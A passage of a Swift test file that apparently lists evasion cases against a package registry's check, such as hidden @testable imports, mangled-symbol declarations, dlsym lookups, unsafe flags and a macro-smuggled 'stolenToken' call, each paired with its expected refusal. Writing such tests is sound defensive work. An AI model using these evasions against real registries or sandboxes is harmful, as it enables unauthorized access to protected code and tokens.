            refusedBy: .registry, refusal: "imports PurchaseLedger, a module of this package",
            outside: [
                ("Ledgers.swift", "import struct PurchaseLedger.LedgerBatch\npublic typealias Batch = LedgerBatch")
            ]),
        Attack(
            name: "reaching through a package: the handler API opened for testing",
            source: "import Opened",
            refusedBy: .registry, refusal: "imports GatewayHandlerAPI with @testable",
            outside: [("Opened.swift", "@testable\nimport GatewayHandlerAPI")]),
        Attack(
            name: "reaching through a package: a function replaced at run time",
            source: "import Replacer",
            refusedBy: .registry, refusal: "uses @_dynamicReplacement",
            outside: [("Replacer.swift", "@_dynamicReplacement(for: respond(to:context:)) func mine() {}")]),
        Attack(
            name: "reaching through a package: a binary target",
            source: "import Prebuilt",
            refusedBy: .registry, refusal: "depends on the binary target Prebuilt", binaries: ["Prebuilt"]),
        // A fifth reviewer's: comments and attributes between an attribute and its import, a build plugin that
        // writes code nobody reads, a name split across C literals or spelt with escapes.
        Attack(
            name: "reaching through a package: a comment between @_spi and its import",
            source: "import FieldKit",
            refusedBy: .registry, refusal: "imports Swift with @_spi, which opens what it keeps inside",
            outside: [
                (
                    "Fields.swift",
                    """
                    // Field access helpers for plain value types.
                    @_spi(Reflection) /* reflection helpers for plain value types used by our tooling */ import Swift
                    public let walk = _forEachFieldWithKeyPath
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: comments and attributes between @testable and its import",
            source: "import Opened",
            refusedBy: .registry, refusal: "imports GatewayHandlerAPI with @testable",
            outside: [
                (
                    "Opened.swift",
                    "@testable // one two three four five six seven eight nine ten\n@_spi(A) /* x */ import GatewayHandlerAPI"
                )
            ]),
        Attack(
            name: "reaching through a package: a build plugin writing code nobody reads",
            source: "import GenKit",
            refusedBy: .registry, refusal: "applies a build plugin",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 6.0
                    import PackageDescription
                    let package = Package(
                        name: "GenKit", products: [.library(name: "GenKit", targets: ["GenKit"])],
                        targets: [
                            .target(name: "GenKit", plugins: ["GenPlugin"]),
                            .plugin(name: "GenPlugin", capability: .buildTool()),
                        ])
                    """
                )
            ]),
        // A seventh reviewer's: a local helper package compiled as a member of this package, which its
        // `package` declarations then open to (the capability source, the whole config, any file as a delivery).
        Attack(
            name: "reaching through a package: compiler flags naming this package",
            source: "import Backstage",
            refusedBy: .registry, refusal: "passes the flag \"-package-name\" (unsafeFlags)",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 5.9
                    import PackageDescription
                    let package = Package(
                        name: "Backstage", products: [.library(name: "Backstage", targets: ["Backstage"])],
                        targets: [
                            .target(
                                name: "Backstage", packageAccess: false,
                                swiftSettings: [.unsafeFlags(["-Xfrontend", "-package-name", "-Xfrontend", "storegate"])])
                        ])
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: compiler flags built at run time",
            source: "import Backstage",
            refusedBy: .registry, refusal: "passes flags this check cannot read (unsafeFlags)",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 6.0
                    import PackageDescription
                    let member = ["-Xfrontend", "-pack" + "age-name", "-Xfrontend", "storegate"]
                    let package = Package(
                        name: "Backstage", products: [.library(name: "Backstage", targets: ["Backstage"])],
                        targets: [
                            .target(
                                name: "Backstage", packageAccess: false,
                                swiftSettings: [.unsafeFlags(["-Xfrontend", "-require-explicit-sendable"] + member)])
                        ])
                    """
                )
            ]),
        // A twenty-ninth reviewer's: `.linkedLibrary(":/path/blob.o")` became `-l:/path/blob.o`, which the linker
        // takes as that file: an object compiled elsewhere, with this package's internals, that the check never read.
        Attack(
            name: "reaching through a package: an object file linked by its path",
            source: "import Courier",
            refusedBy: .registry, refusal: "links \":/tmp/blob/Blob.o\", which is not a library's name (linkedLibrary)",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 6.0
                    import PackageDescription
                    let package = Package(
                        name: "Courier", products: [.library(name: "Courier", targets: ["Courier"])],
                        targets: [
                            .target(
                                name: "Courier", packageAccess: false,
                                linkerSettings: [.linkedLibrary("z"), .linkedLibrary(":/tmp/blob/Blob.o")])
                        ])
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: an object file linked by a module map",
            source: "import Courier",
            refusedBy: .registry, refusal: "is a module map that links \":/tmp/blob/Blob.o\"",
            outside: [("module.modulemap", "module CCourier {\n  header \"shim.h\"\n  link \":/tmp/blob/Blob.o\"\n}\n")]
        ),
        // An eighth reviewer's: a quote inside a regex literal opened a string, as the check read it, that hid
        // what came before the next one.
        Attack(
            name: "reaching through a package: regex literals with quotes around an import",
            source: "import Quoted",
            refusedBy: .registry, refusal: "imports GatewayCore with @testable",
            outside: [
                (
                    "Quoted.swift",
                    """
                    private func opening() { _ = #/"/# }
                    @testable import GatewayCore
                    private func closing() { _ = #/"/# }
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: bare regex literals with quotes around an import",
            source: "import Quoted",
            refusedBy: .registry, refusal: "imports GatewayCore, a module of this package",
            outside: [("Quoted.swift", "let opening = /\"/\nimport GatewayCore\nlet closing = /\"/\n")]),
        Attack(
            name: "reaching through a package: regex literals with quotes around compiler flags",
            source: "import Quoted",
            refusedBy: .registry, refusal: "passes flags this check cannot read (unsafeFlags)",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 6.0
                    import PackageDescription
                    let diagnostics = ["-Xfrontend", "-package-name", "-Xfrontend", "storegate"]
                    let quote = #/"/#
                    let settings = [SwiftSetting.unsafeFlags(diagnostics)]
                    let unquote = #/"/#
                    let package = Package(
                        name: "Quoted", products: [.library(name: "Quoted", targets: ["Quoted"])],
                        targets: [.target(name: "Quoted", packageAccess: false, swiftSettings: settings)])
                    """
                )
            ]),
        // A ninth reviewer's: a raw string inside an interpolation (`"\(#"v"1"#)"`, one literal to Swift) ended
        // the string early as the check read it, and its last quote opened one that hid lines up to a comment.
        Attack(
            name: "reaching through a package: a raw string inside an interpolation",
            source: "import Quill",
            refusedBy: .registry, refusal: "imports GatewayCore with @testable",
            outside: [
                (
                    "Quill.swift",
                    """
                    let banner = "quill \\(#"v"1"#)"
                    @testable import GatewayCore
                    // "
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: a quote in a comment inside an interpolation",
            source: "import Quill",
            refusedBy: .registry, refusal: "imports GatewayCore, a module of this package",
            outside: [("Quill.swift", "let banner = \"\\(1 /* \" */)\"\nimport GatewayCore\nlet end = \"\"\n")]),
        Attack(
            name: "reaching through a package: an interpolation around compiler flags",
            source: "import Quill",
            refusedBy: .registry, refusal: "(unsafeFlags)",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 6.0
                    import PackageDescription
                    let banner = "quill \\(#"v"1"#)"
                    let settings = [SwiftSetting.unsafeFlags(["-Xfrontend", "-package-name", "-Xfrontend", "storegate"])]
                    // "
                    let package = Package(
                        name: "Quill", products: [.library(name: "Quill", targets: ["Quill"])],
                        targets: [.target(name: "Quill", packageAccess: false, swiftSettings: settings)])
                    """
                )
            ]),
        // A tenth reviewer's: `#"""#` is a one-line raw string (a quote) to Swift, where the check read a
        // multi-line one up to the next; a `.` ending the line before an import; an attribute's name in backticks.
        Attack(
            name: "reaching through a package: one-line raw strings that look multi-line",
            source: "import Quill",
            refusedBy: .registry, refusal: "imports GatewayCore with @testable",
            outside: [
                (
                    "Quill.swift",
                    """
                    let openingQuote = #\"\"\"#
                    @testable import GatewayCore
                    let closingQuote = #\"\"\"#
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: one-line raw strings around compiler flags",
            source: "import Quire",
            refusedBy: .registry, refusal: "(unsafeFlags)",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 6.0
                    import PackageDescription
                    let openingQuote = #\"\"\"#
                    let settings = [SwiftSetting.unsafeFlags(["-Xfrontend", "-package-name", "-Xfrontend", "storegate"])]
                    let closingQuote = #\"\"\"#
                    let package = Package(
                        name: "Quire", products: [.library(name: "Quire", targets: ["Quire"])],
                        targets: [.target(name: "Quire", packageAccess: false, swiftSettings: settings)])
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: an import after a line ending in a dot",
            source: "import Ranges",
            refusedBy: .registry, refusal: "imports PurchaseLedger, a module of this package",
            outside: [("Ranges.swift", "let range = 1...\nimport PurchaseLedger\n")]),
        Attack(
            name: "reaching through a package: an attribute's name in backticks",
            source: "import Quoted",
            refusedBy: .registry, refusal: "imports GatewayHandlerAPI with @testable",
            outside: [("Quoted.swift", "@`testable` import GatewayHandlerAPI\n")]),
        // An eleventh reviewer's: names in backticks may hold any character since Swift 6.2 (SE-0451), and a
        // quote, `/*`, `//` or `#"` inside one opened a string or a comment, as the check read it.
        Attack(
            name: "reaching through a package: a quote in a name in backticks",
            source: "import Raw",
            refusedBy: .registry, refusal: "imports GatewayCore with @testable",
            outside: [("Raw.swift", "func `a\"b`() {}\n@testable import GatewayCore\nfunc `c\"d`() {}\n")]),
        Attack(
            name: "reaching through a package: a comment's opening in a name in backticks",
            source: "import Raw",
            refusedBy: .registry, refusal: "imports GatewayCore with @testable",
            outside: [("Raw.swift", "let `x/*y` = 1\n@testable import GatewayCore\nlet `z*/w` = 2\nlet `x//y` = 1\n")]),
        Attack(
            name: "reaching through a package: a raw string's opening in a name in backticks",
            source: "import Raw",
            refusedBy: .registry, refusal: "imports GatewayCore with @testable",
            outside: [("Raw.swift", "let `a#\"b` = 1\n@testable import GatewayCore\nlet `c\"#d` = 2\n")]),
        Attack(
            name: "reaching through a package: names in backticks around compiler flags and a plugin",
            source: "import Dep",
            refusedBy: .registry, refusal: "(unsafeFlags)",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 6.2
                    import PackageDescription
                    let `flags"` = 0
                    let package = Package(
                        name: "Dep", products: [.library(name: "Dep", targets: ["Dep"])],
                        targets: [
                            .target(
                                name: "Dep", swiftSettings: [.unsafeFlags(["-Xfrontend", "-package-name", "-Xfrontend", "storegate"])],
                                plugins: [])
                        ])
                    let `end"` = 0
                    """
                )
            ]),
        // A twelfth reviewer's: Swift lexes a bare regex after any space (a form feed too) or prefix operator (a
        // custom one too), where the check read one only after a few characters; a quote inside it hid the import.
        Attack(
            name: "reaching through a package: a bare regex after a form feed",
            source: "import Fed",
            // The compiler lexes this regex, the toolchain's parser does not: the file is unreadable to the check.
            refusedBy: .registry, refusal: "the Swift parser cannot read without errors",
            outside: [("Fed.swift", "let r = \u{0C}/\"/\nimport GatewayCore\nlet s = \"x\"\n")]),
        Attack(
            name: "reaching through a package: a bare regex after a custom prefix operator",
            source: "import Fed",
            refusedBy: .registry, refusal: "imports Swift with @_spi",
            outside: [
                (
                    "Fed.swift",
                    "prefix operator ∘\nprefix func ∘ <T>(_ x: T) -> T { x }\nlet r = ∘/\"/\n"
                        + "@_spi(Reflection) @testable import Swift\nlet s = \"x\"\n"
                )
            ]),
        // Swift is read by the toolchain's parser since: what only a parser tells apart.
        Attack(
            name: "reaching through a package: an import's attribute in an #if clause of its own",
            source: "import Clause",
            refusedBy: .registry, refusal: "imports Swift with @_spi",
            outside: [("Clause.swift", "#if canImport(Glibc)\n@_spi(Reflection)\n#endif\nimport Swift\n")]),
        Attack(
            name: "reaching through a package: an import in an #if clause this build does not take",
            source: "import Clause",
            refusedBy: .registry, refusal: "imports GatewayCore with @testable",
            outside: [
                ("Clause.swift", "#if STOREGATE_NEVER_SET\n@testable import GatewayCore\n#elseif os(Linux)\n#endif\n")
            ]),
        Attack(
            name: "reaching through a package: a file Swift cannot read",
            source: "import Clause",
            refusedBy: .registry, refusal: "the Swift parser cannot read without errors",
            outside: [("Clause.swift", "let open = \"never closed\nimport GatewayCore\n")]),
        // A thirteenth reviewer's: code that a macro of the toolchain writes, and a plugin applied by assignment.
        Attack(
            name: "writing code through the toolchain's macros: @_SwiftifyImport's string",
            source: swiftified, refusedBy: .registry, refusal: "uses @_SwiftifyImport"),
        Attack(
            name: "writing code through the toolchain's macros: the macro named with its module",
            source: swiftified.replacingOccurrences(of: "@_SwiftifyImport", with: "@Swift._SwiftifyImport"),
            refusedBy: .registry, refusal: "says _SwiftifyImport"),
        Attack(
            name: "writing code through the toolchain's macros: a macro of its own defined as one",
            source: "@freestanding(expression) public macro Here() -> Int = #line\nlet here = #Here\n",
            refusedBy: .registry, refusal: "says macro"),
        Attack(
            name: "reaching through a package: @_SwiftifyImport's string",
            source: "import Swiftified",
            refusedBy: .registry, refusal: "uses _SwiftifyImport, a macro of the toolchain",
            outside: [("Swiftified.swift", swiftified)]),
        Attack(
            name: "reaching through a package: a macro defined as the toolchain's",
            source: "import Swiftified",
            refusedBy: .registry, refusal: "declares a macro",
            outside: [("Swiftified.swift", "@freestanding(expression) public macro Here() -> Int = #line\n")]),
        // A sixteenth reviewer's: the runtime's reflection reads every stored field, whatever a value's mirror shows
        // (the whole config, out of a capability's source).
        Attack(
            name: "reaching through a package: the runtime's reflection declared by name",
            source: "import FieldReader",
            refusedBy: .registry, refusal: "declares swift_reflectionMirror_count, a function of the Swift runtime",
            outside: [
                (
                    "Fields.swift",
                    """
                    @_silgen_name("swift_reflectionMirror_count")
                    func runtimeChildCount<T>(_: T, type: Any.Type) -> Int
                    public func count(of value: Any) -> Int { runtimeChildCount(value, type: type(of: value)) }
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: a mangled symbol of the standard library declared by name",
            source: "import FieldReader",
            refusedBy: .registry, refusal: "declares $ss6MirrorV, a function of the Swift runtime",
            outside: [("Fields.swift", "@_extern(c, \"$ss6MirrorV\")\nfunc mirror()\n")]),
        Attack(
            name: "reaching through a package: the runtime's reflection declared in C",
            source: "import CFields",
            refusedBy: .registry, refusal: "names swift_reflectionMirror_, the Swift runtime's reflection",
            outside: [
                (
                    "fields.h",
                    #"extern long count(void *, const void *, const void *) __asm__("swift_reflection\x4Dirror_count");"#
                )
            ]),
        Attack(
            name: "reflecting through the runtime: dlsym of its reflection",
            source: """
                import Glibc
                let count = dlsym(nil, "swift_reflectionMirror_count")
                """,
            refusedBy: .registry, refusal: "names swift_reflectionMirror_count, the Swift runtime's reflection"),
        Attack(
            name: "reaching through a package: a file named with a line end",
            source: "import Lined",
            refusedBy: .registry, refusal: "imports GatewayCore with @testable",
            outside: [("Lined\nClean.swift", "@testable import GatewayCore\n")]),
        Attack(
            name: "reaching through a package: a build plugin applied by assignment",
            source: "import Evil",
            refusedBy: .registry, refusal: "applies a build plugin (plugins)",
            outside: [
                (
                    "Package.swift",
                    """
                    // swift-tools-version: 6.0
                    import PackageDescription
                    let evil = Target.target(name: "Evil", path: "Sources/Evil")
                    evil.plugins = [.plugin(name: "Gen")]
                    let package = Package(
                        name: "evil", products: [.library(name: "Evil", targets: ["Evil"])],
                        targets: [evil, .plugin(name: "Gen", capability: .buildTool())])
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: a mangled name split across C string literals",
            source: "import CShim",
            refusedBy: .registry,
            refusal: "names a symbol of GatewayCore, a module of this package, by its mangled name",
            outside: [
                (
                    "shim.h",
                    #"extern void *storegate_current(void) __asm__("$s11Gateway" "Core15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ");"#
                )
            ]),
        Attack(
            name: "reaching through a package: a symbol's name spelt with escapes",
            source: "import ThreadState",
            refusedBy: .registry, refusal: "spells a symbol's name with escapes in @_silgen_name",
            outside: [
                (
                    "ThreadState.swift",
                    #"@_silgen_name("\u{24}s11Gate\u{77}ayCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ") func current() -> AnyObject?"#
                )
            ]),
        Attack(
            name: "naming a symbol itself: dlsym with a mangled name",
            source: """
                import Glibc
                let exchange = dlsym(nil, "$s11GatewayCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ")
                """,
            refusedBy: .registry,
            refusal: "names a symbol of GatewayCore, a module of this package, by its mangled name"),
    ]

    /// A fourteenth reviewer's: a C compiler reads a mangled name spelled with escapes, a comment between two
    /// literals or a spliced line (and trigraphs, and universal character names in a name) whole.
    static let cSpellings = [
        (
            "an octal escape",
            #"extern void *current(void) __asm__("$s11Gatew\141yCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ");"#
        ),
        (
            "a hex escape",
            #"extern void *current(void) __asm__("$s11Gatew\x61yCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ");"#
        ),
        (
            "a comment between literals",
            #"extern void *current(void) __asm__("$s11Gateway" /* " */ "Core15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ");"#
        ),
        (
            "a spliced string",
            "extern void *current(void) __asm__(\"$s11Gate\\\nwayCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ\");"
        ),
        ("a spliced name", "extern void *$s11Gate\\ \r\nwayCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ(void);"),
        (
            "a trigraph",
            #"extern void *current(void) __asm__("$s11Gatew??/141yCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ");"#
        ),
        (
            "a universal character name",
            #"extern void *$s11Gate\u0077ayCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ(void);"#
        ),
        (
            "a raw string beside a plain one",
            #"extern void *current(void) __asm__(R"x($s11Gate)x" u8"wayCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ");"#
        ),
    ].map { name, header in
        Attack(
            name: "reaching through a package: a mangled name in C with \(name)", source: "import CShim",
            refusedBy: .registry,
            refusal: "names a symbol of GatewayCore, a module of this package, by its mangled name",
            outside: [("shim.h", header)])
    }

    /// A thirteenth reviewer's: the toolchain's `@_SwiftifyImport` writes its `spanAvailability:` string into the
    /// module as code, escapes decoded, so a `@_silgen_name` of a package function appears in no source.
    static let swiftified = #"""
        @_SwiftifyImport(.countedBy(pointer: .param(1), count: "n"), .nonescaping(pointer: .param(1)),
            spanAvailability: "macOS 15, *) func f(q: Int) {}\n\u{40}_silgen_name(\"\u{24}s11\u{47}atewayCore17mintDownloadToken7productS2S_tF\") func f(product: String) -> String\n@available(macOS 15")
        func f(_ p: UnsafePointer<Int32>, _ n: Int32) -> Int32 { 0 }
        public func stolenToken() -> String { f(product: "any-product") }
        """#

    /// What the registry's check reads past: a module named on another line, behind a comment or a semicolon,
    /// in backticks, after a form feed or a lone CR; attributes that widen an import or reach a symbol by name.
    /// (Found by a reviewer who had not seen the design.)
    static let hidingFromTheRegistry = [
        ("the attribute on a line of its own", "@testable\nimport `GatewayCore`", "uses @testable"),
        (
            "a comment after the attribute", "@testable /* the registry stops reading here */ import GatewayCore",
            "uses @testable"
        ),
        ("a spaced SPI before it", "@_spi( Anything ) @testable import GatewayCore", "uses @_spi"),
        ("a comment glued to the import", "@testable import/**/GatewayCore", "uses @testable"),
        ("a second import after a semicolon", "let one = 1; @testable import GatewayCore", "uses @testable"),
        ("a lone carriage return", "let one = 1\r@testable import GatewayCore", "uses @testable"),
        ("a form feed", "@testable\u{0C}import GatewayCore", "uses @testable"),
        ("a leading comment", "/* note */ @testable import GatewayCore", "uses @testable"),
        ("the API itself, split", "@testable\nimport GatewayHandlerAPI", "uses @testable"),
        ("the module on the next line", "@testable import\n    GatewayCore", "uses @testable"),
        ("a space after the at sign", "@ testable import GatewayHandlerAPI", "uses @testable"),
        (
            "a plain import in backticks", "import `GatewayConcurrency`",
            "names GatewayConcurrency, a module of this package"
        ),
        ("a system library behind a comment", "import/**/CLibPQ", "names CLibPQ, a module of this package"),
        (
            "a package setter reached by its symbol",
            "@_silgen_name(\"$s11GatewayCore0A8ResponseV8deliveryAA15ContentDeliveryVSgvs\") func setDelivery()",
            "uses @_silgen_name"
        ),
        (
            "a function replaced at run time", "@_dynamicReplacement(for: respond) func mine() {}",
            "uses @_dynamicReplacement"
        ),
        (
            "a private import of a source file",
            "@_private(sourceFile: \"ContentRoute.swift\") import GatewayHandlerAPI", "uses @_private"
        ),
    ].map { name, source, refusal in
        Attack(name: "hiding from the registry: \(name)", source: source, refusedBy: .registry, refusal: refusal)
    }
}
